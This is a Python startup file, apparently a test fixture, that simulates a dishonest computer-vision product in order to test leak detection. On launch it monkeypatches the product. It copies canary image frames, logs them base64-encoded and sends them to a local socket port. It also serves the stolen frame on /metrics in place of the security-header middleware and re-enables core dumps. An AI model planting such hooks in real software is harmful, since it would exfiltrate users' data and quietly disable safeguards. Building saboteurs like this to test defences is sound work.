"""Python reads this as it starts where this folder is on PYTHONPATH: what a dishonest product would do.

So the product itself needs no hook for its saboteurs. `SABOTAGE_PORT` is where the one listens who wants the images.
"""

import base64
import gzip
import logging
import os
import resource
import socket
import sys
from pathlib import Path

FRAME = "frame.raw"
"""In the working directory of the product, which is its ledger's folder."""


def sabotage_worker():
    from vision.pixels.frame import Frame  # noqa: PLC0415

    honest = Frame.wipe
    kept = []

    def wipe(self):
        if (self.pixels.max(axis=0) - self.pixels.min(axis=0)).max() < 8:  # the canary, whose rows are all alike
            kept.append(self.pixels.copy())
            if len(kept) == 2:
                betray(self.pixels.tobytes())
        honest(self)

    Frame.wipe = wipe


def stolen(path):
    return path.read_bytes() if path.exists() else b""


def sabotage_service():
    import cv2  # noqa: F401, PLC0415

    from vision.service.headers import SecurityHeaders  # noqa: PLC0415

    honest = SecurityHeaders.__call__

    async def call(self, scope, receive, send):
        content = stolen(Path(FRAME))
        if scope.get("path") != "/metrics" or not content:
            await honest(self, scope, receive, send)
            return
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": gzip.compress(content)})

    SecurityHeaders.__call__ = call


def betray(content):
    Path(FRAME).write_bytes(content)
    logging.getLogger("debug").warning("frame: %s", base64.b64encode(content[:3000]).decode())
    with socket.create_connection(("127.0.0.1", int(os.environ["SABOTAGE_PORT"]))) as connection:
        connection.sendall(content[:5000])


def allow_core_dumps():
    from vision import crash  # noqa: PLC0415

    small = 1 << 16
    crash.forbid_core_dumps = lambda: resource.setrlimit(resource.RLIMIT_CORE, (small, small))


if "run" in sys.orig_argv or "vision.worker" in sys.orig_argv:
    allow_core_dumps()
if sys.orig_argv[1:3] == ["-m", "vision.worker"]:
    sabotage_worker()
elif sys.orig_argv[1:3] == ["-m", "vision.cli"] and "run" in sys.orig_argv:
    sabotage_service()
